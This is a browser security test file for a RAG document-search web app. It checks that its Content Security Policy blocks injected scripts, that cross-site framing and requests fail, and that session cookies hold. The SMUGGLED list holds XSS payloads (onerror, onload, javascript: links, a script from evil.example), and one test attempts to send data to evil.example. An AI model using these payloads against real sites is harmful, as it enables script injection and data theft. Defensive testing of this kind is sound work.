"""The policies in a real browser: what a document smuggled in does not run, and other sites' pages do no harm."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from gradio_client import Client
from playwright.sync_api import Browser, Page, expect

from rag.embed import Embedder
from tests.browser import PATIENCE, Site, ask, opened, question_box, served
from tests.server.sites import MILL

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Iterator[Site]:
    def fill(corpus: Path) -> None:
        (corpus / "mill.txt").write_text(MILL)

    with served(tmp_path_factory.mktemp("site"), embedder, fill) as made:
        yield made


@pytest.fixture
def free_page(browser: Browser) -> Iterator[Page]:
    """A page that may go anywhere, and whose errors are no failure."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


def test_the_page_works_under_its_policy(browser: Browser, site: Site) -> None:
    with opened(browser, site.address) as page:  # a violation is an error in the console, which fails
        ask(page, "Who built the mill at Brook Lane?")
        expect(page.locator(".turn")).to_contain_text("Ada Stone")
        page.locator(".marker").first.click()
        expect(page.locator("#reader mark").first).to_contain_text("built in 1871")


SMUGGLED = [
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"document.title=\\'owned\\'\">')",
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"document.title=\\'owned\\'\"></svg>')",
    "{ const s = document.createElement('script'); s.textContent = 'document.title=`owned`'; document.body.append(s) }",
    "{ const s = document.createElement('script'); s.src = 'https://evil.example/a.js'; document.body.append(s) }",
    "{ const s = document.createElement('script'); s.src = 'data:,document.title=`owned`'; document.body.append(s) }",
    "{ const a = document.createElement('a'); a.href = 'javascript:document.title=`owned`';"
    " document.body.append(a); a.click() }",
    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.document.title=1</script>\">')",
]


@pytest.mark.parametrize("smuggled", SMUGGLED)
def test_what_is_smuggled_into_the_page_does_not_run(free_page: Page, site: Site, smuggled: str) -> None:
    free_page.goto(site.address)
    expect(question_box(free_page)).to_be_visible()
    title = free_page.title()
    with free_page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        free_page.evaluate(f"() => {{ {smuggled} }}")
    assert free_page.title() == title


def test_nothing_is_sent_elsewhere(free_page: Page, site: Site) -> None:
    free_page.goto(site.address)
    out: list[str] = []
    free_page.on("requestfinished", lambda request: out.append(request.url))
    send = "async (url) => { try { await fetch(url, {mode: 'no-cors'}); return 'sent' } catch { return 'refused' } }"
    assert free_page.evaluate(send, "https://evil.example/?words") == "refused"
    load = """(url) => new Promise((done) => {
        const image = Object.assign(new Image(), { onload: () => done('sent'), onerror: () => done('refused') });
        image.src = url;
    })"""
    assert free_page.evaluate(load, "https://evil.example/?words") == "refused"
    assert not [url for url in out if "evil" in url]


def test_another_site_can_neither_frame_read_nor_change(
    free_page: Page, site: Site, elsewhere: tuple[str, Path]
) -> None:
    address, folder = elsewhere
    (folder / "index.html").write_text(f'<iframe src="{site.address}/"></iframe><p>other</p>')
    free_page.goto(address)
    [framed] = free_page.frames[1:]
    framed.wait_for_url("chrome-error://chromewebdata/")
    attempt = """async ([url, options]) => {
        try { const r = await fetch(url, options); return [r.type, r.status, await r.text()] }
        catch (error) { return ['refused', 0, ''] }
    }"""
    documents = f"{site.address}/api/documents"
    assert free_page.evaluate(attempt, [documents, {}]) == ["refused", 0, ""]
    assert free_page.evaluate(attempt, [documents, {"credentials": "include"}]) == ["refused", 0, ""]
    put = {"method": "PUT", "body": "Words."}
    assert free_page.evaluate(attempt, [f"{documents}?name=planted.txt", put])[0] == "refused"
    simple = {"method": "POST", "mode": "no-cors", "body": '{"data": [], "fn_index": 0, "session_hash": "a"}'}
    assert free_page.evaluate(attempt, [f"{site.address}/gradio_api/queue/join", simple])[2] == ""
    assert [one["source"] for one in httpx.get(documents, timeout=PATIENCE).json()["documents"]] == ["mill.txt"]


def test_a_link_from_another_site_opens_the_page_with_the_session_there_is(
    free_page: Page, site: Site, elsewhere: tuple[str, Path]
) -> None:
    address, folder = elsewhere
    (folder / "index.html").write_text(f'<a href="{site.address}/">to the documents</a>')
    free_page.goto(site.address)
    before = [cookie for cookie in free_page.context.cookies() if cookie["name"] == "rag_session"]
    free_page.goto(address)  # to a browser, localhost is another site than 127.0.0.1
    free_page.get_by_role("link").click()
    expect(question_box(free_page)).to_be_visible()
    assert free_page.url.startswith(site.address)
    assert [cookie for cookie in free_page.context.cookies() if cookie["name"] == "rag_session"] == before
    assert len(before) == 1


@pytest.mark.usefixtures("offline_hub")
def test_gradios_client_finds_two_typed_endpoints_and_no_other(site: Site) -> None:
    client = Client(site.address, verbose=False, httpx_kwargs={"timeout": PATIENCE})
    described = client.view_api(return_format="dict", print_info=False)["named_endpoints"]
    assert described.keys() == {"/ask", "/search"}
    assert [one["parameter_name"] for one in described["/search"]["parameters"]] == [
        "question",
        "k",
        "history",
        "sources",
    ]
    found = client.predict("Who built the mill at Brook Lane?", api_name="/ask")
    assert found["citations"][0]["quote"] == MILL.splitlines()[0]
    assert len(client.predict("Who built the mill?", k=1, api_name="/search")["results"]) == 1
    with pytest.raises(Exception, match="the question is empty"):
        client.predict(" ", api_name="/ask")
    with pytest.raises(Exception, match="role cannot be used"):
        client.predict("Who?", [{"role": "x"}], api_name="/ask")
    with pytest.raises(ValueError, match="api_name"):
        client.predict(api_name="/ask_1")


def test_nothing_is_run_past_the_queue(site: Site) -> None:
    body = {"data": ["Who?", None, None], "fn_index": 0}
    response = httpx.post(f"{site.address}/gradio_api/run/predict", json=body, timeout=PATIENCE)
    assert response.status_code == 404
